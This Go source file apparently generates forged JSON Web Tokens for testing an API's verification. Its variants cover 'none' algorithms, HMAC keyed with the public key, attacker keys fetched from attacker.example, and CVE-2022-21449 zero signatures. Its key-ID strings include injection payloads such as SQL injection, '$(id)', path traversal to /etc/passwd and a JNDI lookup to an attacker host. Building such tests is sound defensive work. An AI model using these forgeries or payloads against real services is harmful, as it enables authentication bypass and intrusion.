package forgery

import (
	"crypto"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/asn1"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"hash"
	"math/big"
	"strings"
	"time"
)

// unsigned are tokens that say they need no signature, in every spelling, without one and with one of another token (RFC 8725, 2.1).
func unsigned(i Issuer, now time.Time) map[string]string {
	variants := map[string]string{}
	real := signES256(i.Key)([]byte(i.Token(now)))
	for _, alg := range []any{"none", "None", "NONE", "nOnE", "none ", " none", "", absent, nil, 0, false, []any{}, []any{"ES256"}, object{}} {
		for name, sign := range map[string]signer{"empty": fixed(nil), "another token's": fixed(real), "one byte": fixed([]byte{0})} {
			variants[fmt.Sprintf("alg %#v, signature %s", alg, name)] = token(i.header().with("alg", alg), i.claims(now), sign)
		}
	}
	return variants
}

// publicSecrets are tokens whose HMAC has a public value for its secret (RFC 8725, 2.1).
func publicSecrets(i Issuer, now time.Time) map[string]string {
	der, err := x509.MarshalPKIXPublicKey(&i.Key.PublicKey)
	if err != nil {
		panic(fmt.Sprintf("writing the public key: %v", err)) // It is one on P-256.
	}
	text := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	one, _ := json.Marshal(jwk(i.Key, i.KeyID))
	set, _ := json.Marshal(object{"keys": []any{jwk(i.Key, i.KeyID)}})
	x, y := coordinates(i.Key)
	secrets := map[string][]byte{
		"PEM": text, "PEM without the newline at its end": []byte(strings.TrimSpace(string(text))), "DER": der, "JWK": one, "JWK set": set,
		"the point": append(append([]byte{4}, x...), y...), "x": x, "x in base64url": []byte(encode(x)), "the kid": []byte(i.KeyID),
		"nothing": nil, "the issuer": []byte(i.Name),
	}
	variants := map[string]string{}
	for alg, newHash := range map[string]func() hash.Hash{"HS256": sha256.New, "HS384": sha512.New384, "HS512": sha512.New} {
		for name, secret := range secrets {
			variants[alg+" with "+name] = token(i.header().with("alg", alg), i.claims(now), func(input []byte) []byte {
				mac := hmac.New(newHash, secret)
				mac.Write(input)
				return mac.Sum(nil)
			})
		}
	}
	return variants
}

// otherAlgorithms name an algorithm that the key is not for, over a signature of the issuer's.
func otherAlgorithms(i Issuer, now time.Time) map[string]string {
	return each([]any{
		"RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES384", "ES512", "ES256K", "EdDSA", "Ed25519", "ML-DSA-44", "HS256",
		"es256", "Es256", "eS256", "ES256 ", " ES256", "ES256\x00", "ES256\n", "ES-256", "ECDH-ES", "dir", "A256KW", "RSA1_5", "RSA-OAEP",
	}, func(alg any) string { return token(i.header().with("alg", alg), i.claims(now), signES256(i.Key)) })
}

// otherKeys are signed by an attacker, whose key the header brings along or names (RFC 8725, 3.10; RFC 7515, 4.1.2 to 4.1.8).
func otherKeys(i Issuer, now time.Time) map[string]string {
	attacker := newKey()
	sign := signES256(attacker)
	certificate := encode([]byte("a certificate"))
	variants := map[string]string{}
	for _, kid := range []any{i.KeyID, absent, "attacker"} {
		for name, more := range map[string]object{
			"nothing": {}, "jwk": {"jwk": jwk(attacker, "attacker")}, "jwk of the kid": {"jwk": jwk(attacker, i.KeyID)},
			"jwk twice": {"jwk": []any{jwk(attacker, i.KeyID)}}, "jwks": {"jwks": object{"keys": []any{jwk(attacker, i.KeyID)}}},
			"jku": {"jku": "https://attacker.example/jwks.json"}, "jku of the issuer": {"jku": i.Name + "@attacker.example/jwks.json"},
			"jku of a file": {"jku": "file:///etc/passwd"}, "x5u": {"x5u": "https://attacker.example/key.pem"}, "x5c": {"x5c": []any{certificate}},
			"x5t": {"x5t": encode(sha256Of([]byte(certificate)))},
		} {
			header := i.header().with("kid", kid)
			for member, value := range more {
				header = header.with(member, value)
			}
			variants[fmt.Sprintf("kid %v with %s", kid, name)] = token(header, i.claims(now), sign)
		}
	}
	rsaKey, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		panic(fmt.Sprintf("making a key: %v", err)) // rand.Reader never fails.
	}
	variants["RS256 by an RSA key under the kid"] = token(i.header().with("alg", "RS256"), i.claims(now), func(input []byte) []byte {
		signature, err := rsa.SignPKCS1v15(rand.Reader, rsaKey, crypto.SHA256, sha256Of(input))
		if err != nil {
			panic(fmt.Sprintf("signing: %v", err)) // The key is long enough.
		}
		return signature
	})
	return variants
}

// keyIDs name no key: a path, SQL, a member of every object, another type. The issuer signs those that are text, and an attacker all: a kid
// that is no text is none, and the API tries its only key.
func keyIDs(i Issuer, now time.Time) map[string]string {
	texts := []any{
		"", "unknown", "../../../../dev/null", "/dev/null", "/proc/sys/kernel/randomize_va_space", "..\\..\\key", "file:///etc/passwd",
		"https://attacker.example/key", "x' OR '1'='1", "x' UNION SELECT 'secret", `x"; drop table records; --`, "$(id)", "|id", "{{7*7}}",
		"${jndi:ldap://attacker.example/}", "__proto__", "constructor", "toString", "0", i.KeyID + "\x00", i.KeyID + " ", " " + i.KeyID,
		strings.ToUpper(i.KeyID) + "x", i.KeyID + "," + i.KeyID, "*", "%", strings.Repeat("k", 4096),
	}
	signed := func(sign signer) func(any) string {
		return func(kid any) string { return token(i.header().with("kid", kid), i.claims(now), sign) }
	}
	variants := map[string]string{}
	for name, value := range each(texts, signed(signES256(i.Key))) {
		variants["signed by the issuer: "+name] = value
	}
	others := []any{nil, 0, true, []any{i.KeyID}, object{"kid": i.KeyID}}
	for name, value := range each(append(others, texts...), signed(signES256(newKey()))) {
		variants["signed by an attacker: "+name] = value
	}
	for _, path := range []string{"/dev/null", "../../../../dev/null"} { // An empty file as the secret.
		variants["HS256 with nothing: "+path] = token(object{"alg": "HS256", "kid": path}, i.claims(now), func(input []byte) []byte {
			mac := hmac.New(sha256.New, nil)
			mac.Write(input)
			return mac.Sum(nil)
		})
	}
	return variants
}

// criticalHeaders are signed by the issuer and demand what the API does not understand (RFC 7515, 4.1.11).
func criticalHeaders(i Issuer, now time.Time) map[string]string {
	return each([]any{
		[]any{"x"}, []any{"exp"}, []any{"alg"}, []any{"http://example.com/UNDEFINED"}, []any{"b64", "x"}, []any{}, []any{1}, []any{nil},
		[]any{""}, "exp",
		"", nil, 0, true, object{"x": true},
	}, func(crit any) string {
		header := i.header().with("crit", crit).with("x", true).with("exp", now.Add(lifetime).Unix())
		return token(header, i.claims(now), signES256(i.Key))
	})
}

// signatures are none of the issuer's over this token.
func signatures(i Issuer, now time.Time) map[string]string {
	claims := i.claims(now)
	change := func(change func(r, s *big.Int) []byte) string {
		return token(i.header(), claims, func(input []byte) []byte { return change(signECDSA(i.Key, input)) })
	}
	both := func(r, s *big.Int) []byte {
		return append(r.FillBytes(make([]byte, coordinateBytes)), s.FillBytes(make([]byte, coordinateBytes))...)
	}
	zero, order := new(big.Int), i.Key.Curve.Params().N
	stolen := strings.Split(i.Token(now), ".")
	return map[string]string{
		"of another token":      token(i.header(), claims.with("sub", "somebody"), fixed(signES256(i.Key)([]byte(stolen[0]+"."+stolen[1])))),
		"zeros":                 token(i.header(), claims, fixed(make([]byte, 2*coordinateBytes))), // CVE-2022-21449
		"r is zero":             change(func(_, s *big.Int) []byte { return both(zero, s) }),
		"s is zero":             change(func(r, _ *big.Int) []byte { return both(r, zero) }),
		"r and s are the order": change(func(_, _ *big.Int) []byte { return both(order, order) }),
		"r and s are swapped":   change(func(r, s *big.Int) []byte { return both(s, r) }),
		"r and s are one":       change(func(_, _ *big.Int) []byte { return both(big.NewInt(1), big.NewInt(1)) }),
		"DER": change(func(r, s *big.Int) []byte {
			der, err := asn1.Marshal(struct{ R, S *big.Int }{r, s})
			if err != nil {
				panic(fmt.Sprintf("writing a signature: %v", err)) // They are two numbers.
			}
			return der
		}),
		"a byte short":            change(func(r, s *big.Int) []byte { return both(r, s)[1:] }),
		"a byte long":             change(func(r, s *big.Int) []byte { return append(both(r, s), 0) }),
		"r alone":                 change(func(r, _ *big.Int) []byte { return r.Bytes() }),
		"of a digest of a digest": token(i.header(), claims, func(input []byte) []byte { return signES256(i.Key)(sha256Of(input)) }),
		"of the claims alone": token(i.header(), claims, func(input []byte) []byte {
			return signES256(i.Key)([]byte(strings.Split(string(input), ".")[1]))
		}),
		"claims that were changed":   stolen[0] + "." + part(claims.with("sub", "somebody")) + "." + stolen[2],
		"a header that was changed":  part(i.header().with("typ", "at+jwt")) + "." + stolen[1] + "." + stolen[2],
		"header and claims swapped":  stolen[1] + "." + stolen[0] + "." + stolen[2],
		"an encoding that was added": stolen[0] + "." + stolen[1] + "." + encode([]byte(stolen[2])),
	}
}
